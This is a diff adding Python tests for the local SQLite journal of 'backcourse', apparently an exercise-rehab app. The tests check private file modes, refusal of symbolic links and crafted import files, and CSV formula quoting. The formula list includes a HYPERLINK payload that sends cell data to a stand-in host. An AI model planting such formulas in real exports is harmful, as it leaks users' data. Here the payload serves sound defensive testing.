@@ -6,6 +6,8 @@ import csv
 import json
 import os
 import re
+import shlex
+import shutil
 import signal
 import sqlite3
 import stat
@@ -16,6 +18,7 @@ from pathlib import Path
 import pytest
 
 from backcourse import cli
+from backcourse.content import load_course
 from backcourse.core.records import Assessment, Plan, Screening, SessionLog
 from backcourse.journal import (
     MIGRATIONS,
@@ -25,6 +28,9 @@ from backcourse.journal import (
     JournalError,
     journal_path,
 )
+
+
+COURSE = load_course()
 
 
 def session(day: str = "2026-03-02", pain_after: int = 3, **extra: object) -> SessionLog:
@@ -78,6 +84,13 @@ def test_the_file_is_private_in_wal_mode_at_the_current_version(tmp_path: Path) 
     assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
     with sqlite3.connect(path) as db:
         assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
+
+
+def test_every_save_is_on_disk_before_it_returns(tmp_path: Path) -> None:
+    """WAL with synchronous=FULL: a power cut or an OS crash right after a save loses
+    nothing saved (NORMAL may roll back the last saves)."""
+    with Journal(tmp_path / "me.sqlite3") as journal:
+        assert journal._db.execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL
 
 
 def test_a_version_1_file_is_upgraded_and_keeps_its_entries(tmp_path: Path) -> None:
@@ -176,7 +189,7 @@ def test_export_delete_import_round_trip_is_equal(tmp_path: Path) -> None:
     assert cli.main(["journal", "delete", "--yes", "--home", str(tmp_path)]) == 0
     assert not path.exists()
     with Journal(path) as journal:
-        assert journal.import_json(tmp_path / "backup.json") == 5
+        assert journal.import_json(tmp_path / "backup.json", COURSE) == 5
         after = journal.export_data()
     before.pop("exported_at"), after.pop("exported_at")
     assert after == before
@@ -224,6 +237,33 @@ def _export(journal: Journal) -> dict:
                                "value": float("nan"), "unit": "s"}]), "must be a number"),
     ('{"format": "backcourse-journal", "schema_version": true, "tables": {}}',
      "is not a journal version"),
+    # crafted input: each is one clear problem, never a traceback
+    (_export_doc(assessments=[{"taken_on": "2026-03-02", "test": "side_bridge", "side": "left",
+                               "value": 10**400, "unit": "s"}]),
+     r"assessments\[#1\]: value: 1000.*\(401 characters\) is too large"),
+    (_export_doc(sessions=[{**SESSION_ROW, "sets": 10**400}]), r"sets: 1000.* is too large"),
+    (_export_doc(sessions=[{**SESSION_ROW}]).replace('"sets": 3', '"sets": ' + "9" * 5000),
+     "cannot read: it holds a number too long to read"),
+    (_export_doc(sessions=[{**SESSION_ROW, "id": 2**70}]),
+     r"sessions\[#1\]: id: 1180591620717411303424 is too large \(the limit is "
+     r"±9,007,199,254,740,991\)"),
+    (_export_doc(sessions=[{**SESSION_ROW, "note": "\ud800"}]),
+     r"note: is not valid text \(a lone surrogate at character 1\)"),
+    ("[" * 100_000, "cannot read: its lists or mappings are nested too deeply"),
+    (_export_doc(sessions=[{**SESSION_ROW, "note": "x" * 10_001}]),
+     "note: is 10,001 characters long; at most 10,000 are allowed"),
+    (_export_doc(sessions=[{**SESSION_ROW, "id": 0}]), "id: must be at least 1"),
+    # every name must be one the course knows
+    (_export_doc(assessments=[{"taken_on": "2026-03-02", "test": "zzz", "value": 1,
+                               "unit": "points"}]), r"assessments\[#1\]: test: unknown test 'zzz'"),
+    (_export_doc(assessments=[{"taken_on": "2026-03-02", "test": "side_bridge", "value": 1,
+                               "unit": "s"}]), "side: 'side_bridge' has no side 'both'"),
+    (_export_doc(plans=[{"created_on": "2026-03-02", "start_on": "2026-03-02", "weeks": 8,
+                         "sessions_per_week": 3, "rungs": ["dead-hang-1", "no-such-rung"]}]),
+     r"plans\[#1\]: rungs\[1\]: unknown level 'no-such-rung'"),
+    (_export_doc(screenings=[{"taken_on": "2026-03-02", "outcome": "soon",
+                              "flagged": ["<b>X99</b>"]}]),
+     r"screenings\[#1\]: flagged\[0\]: unknown warning sign '<b>X99</b>'"),
 ])
 def test_a_refused_import_leaves_the_journal_unchanged(
     tmp_path: Path, content: str, message: str
@@ -234,7 +274,7 @@ def test_a_refused_import_leaves_the_journal_unchanged(
         fill(journal)
         before = _export(journal)
         with pytest.raises(ImportRefused, match=message):
-            journal.import_json(bad, replace=True)
+            journal.import_json(bad, COURSE, replace=True)
         assert _export(journal) == before
 
 
@@ -245,9 +285,9 @@ def test_import_into_a_journal_with_entries_needs_replace(tmp_path: Path) -> Non
     with Journal(tmp_path / "me.sqlite3") as journal:
         journal.add(session(day="2025-01-01"))
         with pytest.raises(JournalError, match="already has entries"):
-            journal.import_json(tmp_path / "x.json")
+            journal.import_json(tmp_path / "x.json", COURSE)
         assert journal.count(SessionLog) == 1
-        journal.import_json(tmp_path / "x.json", replace=True)
+        journal.import_json(tmp_path / "x.json", COURSE, replace=True)
         assert [s.done_on for s in journal.sessions()] == ["2026-03-02", "2026-03-04"]
 
 
@@ -323,4 +363,211 @@ def test_cli_reports_journal_problems_without_a_traceback(
     assert "no journal at" in capsys.readouterr().err
     (tmp_path / "me.sqlite3").write_bytes(b"this is not a database" * 100)
     assert cli.main(["journal", "export", str(tmp_path / "x.json"), *home]) == 1
-    assert "backcourse journal export: file is not a database" in capsys.readouterr().err
+    assert (f"backcourse journal export: cannot open the journal at {tmp_path / 'me.sqlite3'}: "
+            "file is not a database") in capsys.readouterr().err
+
+
+def test_a_dangling_link_is_refused_not_followed(tmp_path: Path) -> None:
+    """A link planted where the journal goes would have SQLite create the file elsewhere,
+    readable by others."""
+    planted = tmp_path / "elsewhere" / "stolen.sqlite3"
+    planted.parent.mkdir()
+    home = tmp_path / "home"
+    home.mkdir(mode=0o700)
+    (home / "me.sqlite3").symlink_to(planted)
+    with pytest.raises(JournalError, match="is a symbolic link"):
+        Journal(home / "me.sqlite3")
+    assert not planted.exists()
+
+
+def test_a_linked_journal_folder_is_refused(tmp_path: Path) -> None:
+    real = tmp_path / "real"
+    real.mkdir()
+    (tmp_path / "link").symlink_to(real)
+    with pytest.raises(JournalError, match="link is a symbolic link"):
+        Journal(tmp_path / "link" / "me.sqlite3")
+    assert list(real.iterdir()) == []
+
+
+def test_loose_modes_are_tightened_on_open_and_said_once(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    home = tmp_path / "home"
+    path = home / "me.sqlite3"
+    with Journal(path) as journal:
+        journal.add(session())
+    home.chmod(0o755)
+    path.chmod(0o644)
+    with Journal(path) as journal:
+        journal.add(session())
+    said = capsys.readouterr().err.splitlines()
+    assert said == [f"backcourse: made {home} private to you (it was 755, open to others; "
+                    "now 700)",
+                    f"backcourse: made {path} private to you (it was 644, open to others; "
+                    "now 600)"]
+    assert stat.S_IMODE(home.stat().st_mode) == 0o700
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    Journal(path).close()
+    assert capsys.readouterr().err == ""
+
+
+@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
+                    reason="giving a file to another user needs root")
+def test_a_journal_someone_else_owns_is_refused_and_left_alone(tmp_path: Path) -> None:
+    path = tmp_path / "me.sqlite3"
+    Journal(path).close()
+    path.chmod(0o644)
+    os.chown(path, 65534, 65534)
+    with pytest.raises(JournalError, match="me.sqlite3 belongs to another user"):
+        Journal(path)
+    assert stat.S_IMODE(path.stat().st_mode) == 0o644
+
+
+def test_a_shared_folder_is_never_made_private(tmp_path: Path) -> None:
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    shared.chmod(0o1777)
+    with pytest.raises(JournalError, match="shared by all users"):
+        Journal(shared / "me.sqlite3")
+    assert stat.S_IMODE(shared.stat().st_mode) == 0o1777
+
+
+def test_folders_made_by_an_export_are_private(tmp_path: Path) -> None:
+    with Journal(tmp_path / "me.sqlite3") as journal:
+        fill(journal)
+    assert cli.main(["journal", "export", str(tmp_path / "new" / "deep" / "x.json"), "--csv",
+                     str(tmp_path / "tables" / "csv"), "--home", str(tmp_path)]) == 0
+    for folder in ("new", "new/deep", "tables", "tables/csv"):
+        assert stat.S_IMODE((tmp_path / folder).stat().st_mode) == 0o700, folder
+    for written in [tmp_path / "new" / "deep" / "x.json", *(tmp_path / "tables" / "csv").iterdir()]:
+        assert stat.S_IMODE(written.stat().st_mode) == 0o600, written
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1", "\r=1"]
+
+
+def test_csv_cells_that_look_like_formulas_are_quoted_and_the_json_stays_exact(
+    tmp_path: Path
+) -> None:
+    with Journal(":memory:") as journal:
+        for note in [*FORMULAS, "fine - no formula", "a=b"]:
+            journal.add(session(note=note))
+        journal.export_csv(tmp_path)
+        journal.export_json(tmp_path / "all.json")
+    with (tmp_path / "sessions.csv").open(encoding="utf-8", newline="") as handle:
+        notes = [r["note"] for r in csv.DictReader(handle)]
+    assert notes == [f"'{n}" for n in FORMULAS] + ["fine - no formula", "a=b"]
+    exported = json.loads((tmp_path / "all.json").read_text(encoding="utf-8"))
+    assert [r["note"] for r in exported["tables"]["sessions"]] == [
+        *FORMULAS, "fine - no formula", "a=b"]
+
+
+def test_names_are_checked_against_the_course_passed_in(tmp_path: Path) -> None:
+    """The journal loads no course of its own: a course without a warning sign refuses an
+    export that names it."""
+    import dataclasses
+
+    first, second, *_ = COURSE.red_flags
+    doc = tmp_path / "x.json"
+    doc.write_text(_export_doc(screenings=[{"taken_on": "2026-03-02", "outcome": "soon",
+                                            "flagged": [second.id]}]), encoding="utf-8")
+    fewer = dataclasses.replace(COURSE, red_flags=(first,))
+    with Journal(":memory:") as journal:
+        with pytest.raises(ImportRefused, match=f"unknown warning sign {second.id!r}"):
+            journal.import_json(doc, fewer)
+        assert journal.import_json(doc, COURSE) == 1
+
+
+def test_an_export_naming_a_retired_warning_sign_still_imports(tmp_path: Path) -> None:
+    """A question the course no longer asks in that form stays readable in old journals."""
+    doc = tmp_path / "old.json"
+    doc.write_text(_export_doc(screenings=[{"taken_on": "2025-11-02", "outcome": "same day",
+                                            "flagged": ["E8"]}]), encoding="utf-8")
+    assert "E8" in {r.id for r in COURSE.retired_flags}
+    with Journal(":memory:") as journal:
+        assert journal.import_json(doc, COURSE) == 1
+        saved = journal.latest_screening()
+        assert saved is not None and saved.flagged == ("E8",)
+
+
+def _export_file(tmp_path: Path) -> Path:
+    with Journal(":memory:") as journal:
+        fill(journal)
+        return journal.export_json(tmp_path / "valid.json")
+
+
+def test_import_says_what_a_file_that_is_not_an_export_is(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A folder or a named pipe is named as such (never "does not exist", never a wait on
+    the pipe), and the journal is not even created."""
+    os.mkfifo(tmp_path / "pipe.json")
+    (tmp_path / "folder.json").mkdir()
+    (tmp_path / "latin1.json").write_bytes(b'{"note": "caf\xe9"}')
+    with (tmp_path / "huge.json").open("wb") as handle:
+        handle.truncate(65 * 2**20)
+    home = tmp_path / "home"
+    for name, said in [("pipe.json", "is a named pipe (FIFO), not a file"),
+                       ("folder.json", "is a folder, not a file"),
+                       ("nowhere.json", "does not exist"),
+                       ("latin1.json", "is not UTF-8 text (byte 14 cannot be read)"),
+                       ("huge.json", "is larger than 64 MB; that is not a file backcourse wrote")]:
+        assert cli.main(["journal", "import", str(tmp_path / name), "--home", str(home)]) == 1
+        assert capsys.readouterr().err == f"backcourse journal import: {tmp_path / name} {said}\n"
+    assert not home.exists()
+
+
+def test_a_journal_that_is_a_folder_is_named(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "me.sqlite3").mkdir()
+    said = f"{tmp_path / 'me.sqlite3'} is a folder, not a journal file"
+    assert cli.main(["journal", "export", str(tmp_path / "x.json"), "--home", str(tmp_path)]) == 1
+    assert capsys.readouterr().err == f"backcourse journal export: {said}\n"
+    valid = _export_file(tmp_path)
+    assert cli.main(["journal", "import", str(valid), "--home", str(tmp_path)]) == 1
+    assert capsys.readouterr().err == f"backcourse journal import: {said}\n"
+    with pytest.raises(JournalError, match=re.escape(said)):
+        Journal(tmp_path / "me.sqlite3")
+
+
+def test_a_long_learner_id_is_named_not_echoed_whole(capsys: pytest.CaptureFixture[str]) -> None:
+    assert cli.main(["journal", "path", "--learner", "x" * 5_000]) == 1
+    err = capsys.readouterr().err
+    assert err == (f"backcourse journal path: learner id '{'x' * 59}… (5,002 characters) must be "
+                   "1-64 letters, digits, '-' or '_'\n")
+
+
+def _unshare_works() -> bool:
+    if shutil.which("unshare") is None:
+        return False
+    return subprocess.run(["unshare", "-rm", "true"], capture_output=True).returncode == 0
+
+
+@pytest.mark.skipif(not _unshare_works(), reason="needs a mount namespace (unshare -rm)")
+def test_export_reads_a_journal_on_read_only_media_and_a_write_names_the_path(
+    tmp_path: Path
+) -> None:
+    """The journal's folder is mounted read-only in a private mount namespace, as a
+    write-protected memory stick would be."""
+    media = tmp_path / "stick"
+    with Journal(media / "me.sqlite3") as journal:
+        fill(journal)
+    (media / "me.sqlite3").chmod(0o644)  # cannot be tightened there: SQLite's refusal is shown
+    valid = _export_file(tmp_path)
+    backcourse = f"{shlex.quote(sys.executable)} -m backcourse journal"
+    at, out, valid_ = (shlex.quote(str(p)) for p in (media, tmp_path / "out.json", valid))
+    script = (f"mount --bind {at} {at} && mount -o remount,bind,ro {at} && "
+              f"{backcourse} export {out} --home {at}; echo rc=$?; "
+              f"{backcourse} import {valid_} --replace --home {at}; echo rc=$?")
+    result = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True,
+                            text=True, timeout=60)
+    said = result.stdout + result.stderr
+    assert "Traceback" not in said
+    assert f"Wrote {tmp_path / 'out.json'}\nrc=0\n" in result.stdout
+    assert result.stdout.endswith("rc=1\n")
+    assert (f"backcourse journal import: cannot open the journal at {media / 'me.sqlite3'}"
+            in result.stderr and "it is on read-only media" in result.stderr)
+    exported = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
+    assert len(exported["tables"]["sessions"]) == 2
